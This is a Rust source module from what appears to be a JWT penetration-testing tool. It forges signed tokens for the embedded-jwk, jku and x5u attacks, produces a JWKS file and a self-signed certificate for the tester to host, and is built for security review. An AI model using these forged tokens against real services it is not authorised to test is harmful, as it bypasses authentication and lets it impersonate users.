//! The attacks that bring their own key: `embedded-jwk` (the key rides in the header),
//! `jku` and `x5u` (the header points at a URL the reviewer hosts). Fresh RSA and EC keys
//! are generated once per run and shared by the three.

use serde_json::Value;

use super::{key_token, Base, Hosted, Inputs};
use crate::alg::{Alg, Hash};
use crate::keys::{self, Jwk};
use crate::{Error, Result};

/// The name of the JWKS written to `--out-keys` (what `jot serve --dir` publishes).
pub(super) const JWKS_FILE: &str = "jwks.json";
/// The name of the certificate written to `--out-keys` for `x5u`.
pub(super) const CERT_FILE: &str = "x5u.pem";

/// The attacker's keys, made on first use.
#[derive(Default)]
pub(super) struct FreshKeys {
    rsa: Option<Jwk>,
    ec: Option<Jwk>,
}

impl FreshKeys {
    pub(super) fn get(&mut self, alg: Alg) -> Result<Jwk> {
        let slot = if alg == Alg::RS256 {
            &mut self.rsa
        } else {
            &mut self.ec
        };
        if slot.is_none() {
            let k = keys::generate(alg, None, None)?;
            let kid = k.thumbprint(keys::ThumbprintHash::Sha256);
            let mut k = k;
            k.kid = Some(format!("jot-forge-{}", &kid[..12]));
            *slot = Some(k);
        }
        slot.clone()
            .ok_or_else(|| Error::input("key generation failed"))
    }
}

/// The original header with alg, kid and the key-bearing members replaced.
fn header(
    b: &Base,
    alg: Alg,
    key: &Jwk,
    set: &str,
    value: Value,
) -> serde_json::Map<String, Value> {
    let mut h = b.header_with_alg(alg.name());
    for m in ["jwk", "jku", "x5u", "x5c"] {
        h.remove(m);
    }
    h.insert(
        "kid".into(),
        Value::String(key.kid.clone().unwrap_or_default()),
    );
    h.insert(set.into(), value);
    h
}

/// A fresh RSA and EC key each sign, and carry their public JWK in the header.
pub(super) fn embedded_jwk(
    b: &Base,
    fresh: &mut FreshKeys,
    push: &mut impl FnMut(String, String),
) -> Result<()> {
    for alg in [Alg::RS256, Alg::ES256] {
        let k = fresh.get(alg)?;
        let h = header(b, alg, &k, "jwk", k.to_public()?.to_json(false));
        push(
            format!("{alg}, fresh {} key in jwk", k.kty()),
            key_token(&k, alg, &h, &b.payload_seg)?,
        );
    }
    Ok(())
}

/// `jku` (a JWKS of the fresh RSA and EC keys) or `x5u` (a self-signed certificate of the
/// RSA key): the tokens, and the file to host at the URL.
pub(super) fn remote(
    which: &str,
    b: &Base,
    inputs: &Inputs,
    fresh: &mut FreshKeys,
    push: &mut impl FnMut(String, String),
) -> Result<Vec<Hosted>> {
    let (url, algs) = match which {
        "jku" => (inputs.jku_url.as_deref(), &[Alg::RS256, Alg::ES256][..]),
        _ => (inputs.x5u_url.as_deref(), &[Alg::RS256][..]),
    };
    let Some(url) = url else {
        return Ok(Vec::new());
    };
    let mut published = Vec::new();
    for alg in algs {
        let k = fresh.get(*alg)?;
        let h = header(b, *alg, &k, which, Value::String(url.into()));
        push(
            format!("{alg}, {which} {}", crate::net::redact_url(url)),
            key_token(&k, *alg, &h, &b.payload_seg)?,
        );
        published.push(k.to_public()?);
    }
    if which == "jku" {
        let jwks = serde_json::to_vec_pretty(&keys::to_jwks(&published, false)).unwrap_or_default();
        return Ok(vec![Hosted {
            file: JWKS_FILE,
            contents: jwks,
        }]);
    }
    let rsa = fresh.get(Alg::RS256)?;
    let der = self_signed(&rsa)?;
    let pem = pem_rfc7468::encode_string("CERTIFICATE", pem_rfc7468::LineEnding::LF, &der)
        .map_err(|e| Error::input(format!("cannot encode the certificate: {e}")))?;
    Ok(vec![Hosted {
        file: CERT_FILE,
        contents: pem.into_bytes(),
    }])
}

/// DER TLV.
fn tlv(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let n = content.len();
    if n < 0x80 {
        out.push(n as u8);
    } else {
        let bytes: Vec<u8> = n
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend(bytes);
    }
    out.extend_from_slice(content);
    out
}

/// A minimal self-signed X.509 v3 certificate (CN=jot forge) for the RSA key, signed
/// with sha256WithRSAEncryption. Validity is fixed (2000–2049) so no clock is needed.
pub(super) fn self_signed(key: &Jwk) -> Result<Vec<u8>> {
    const SHA256_RSA: &[u8] = &[
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b,
    ];
    let alg_id = tlv(0x30, &[SHA256_RSA, &[0x05, 0x00]].concat());
    let cn = [
        &[0x06, 0x03, 0x55, 0x04, 0x03][..],
        &tlv(0x0c, b"jot forge"),
    ]
    .concat();
    let name = tlv(0x30, &tlv(0x31, &tlv(0x30, &cn)));
    let validity = tlv(
        0x30,
        &[tlv(0x17, b"000101000000Z"), tlv(0x17, b"491231235959Z")].concat(),
    );
    let spki_pem = key.to_public()?.to_pem(false)?.to_string();
    let (_, spki) = pem_rfc7468::decode_vec(spki_pem.as_bytes())
        .map_err(|e| Error::input(format!("cannot encode the public key: {e}")))?;
    let mut serial = Hash::Sha256.digest(spki.as_slice())[..8].to_vec();
    serial[0] = (serial[0] & 0x3f) | 0x40; // positive, minimal DER
    let tbs = tlv(
        0x30,
        &[
            tlv(0xa0, &tlv(0x02, &[2])),
            tlv(0x02, &serial),
            alg_id.clone(),
            name.clone(),
            validity,
            name,
            spki,
        ]
        .concat(),
    );
    let sig = key.sign(Alg::RS256, &tbs)?;
    let bits = [&[0u8][..], &sig].concat();
    Ok(tlv(0x30, &[tbs, alg_id, tlv(0x03, &bits)].concat()))
}
